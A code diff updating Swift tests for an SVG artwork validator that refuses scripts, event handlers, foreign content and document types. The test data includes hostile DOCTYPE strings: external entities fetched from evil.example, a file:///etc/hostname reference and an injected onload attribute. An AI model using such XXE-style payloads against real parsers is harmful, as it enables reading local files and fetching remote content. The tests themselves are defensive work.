@@ -9,22 +9,23 @@ struct HostileSVGTests {
     func scriptAndHandlers() throws {
         #expect(
             problems(try fixture("script-and-handlers.svg")) == [
-                "2:114 svg-attribute: the attribute onload is not allowed in artwork",
-                "2:132 svg-element: the element script is not allowed in artwork",
-                "2:191 svg-attribute: the attribute onmouseover is not allowed in artwork",
+                "2:107 svg-attribute: the attribute onload is not allowed in artwork",
+                "2:125 svg-element: the element script is not allowed in artwork",
+                "2:179 svg-attribute: the attribute onmouseover is not allowed in artwork",
             ])
     }
 
-    @Test("foreign content, pictures, files and style imports from elsewhere are refused, each with its place")
+    @Test(
+        "foreign content, pictures, files and style imports from elsewhere are refused, each with its place")
     func foreignContent() throws {
         #expect(
             problems(try fixture("foreign-content.svg")) == [
-                "2:122 svg-style: at-rules such as @import are not allowed in styles",
-                "2:130 svg-style: url() may only name an element of the same file",
-                "2:165 svg-style: url() may only name an element of the same file",
-                "2:197 svg-element: the element image is not allowed in artwork",
-                "2:264 svg-reference: href may only name an element of the same file",
-                "2:301 svg-element: the element foreignObject is not allowed in artwork",
+                "2:115 svg-style: at-rules such as @import are not allowed in styles",
+                "2:123 svg-style: url() may only name an element of the same file",
+                "2:160 svg-style: url() may only name an element of the same file",
+                "2:190 svg-element: the element image is not allowed in artwork",
+                "2:263 svg-reference: href may only name an element of the same file",
+                "2:299 svg-element: the element foreignObject is not allowed in artwork",
             ])
     }
 
@@ -41,13 +42,17 @@ struct HostileSVGTests {
     @Test(
         "every kind of document type is refused",
         arguments: [
-            "<!DOCTYPE svg>", "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/svg11.dtd\">",
-            "<!DOCTYPE svg SYSTEM 'file:///etc/hostname'>", "<!DOCTYPE html [<!ATTLIST svg onload CDATA 'x'>]>",
+            "<!DOCTYPE svg>",
+            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/svg11.dtd\">",
+            "<!DOCTYPE svg SYSTEM 'file:///etc/hostname'>",
+            "<!DOCTYPE html [<!ATTLIST svg onload CDATA 'x'>]>",
             "<!DOCTYPE svg [<!ENTITY % a SYSTEM \"http://evil.example/a\"> %a;]>",
         ])
     func documentTypes(text: String) {
         #expect(
-            problems(Array(("\n " + text + svg("")).utf8)) == ["2:2 svg-doctype: a document type is not allowed in SVG"])
+            problems(Array(("\n " + text + svg("")).utf8)) == [
+                "2:2 svg-doctype: a document type is not allowed in SVG"
+            ])
     }
 
     @Test("a diagnostic shows the line and says what to do")
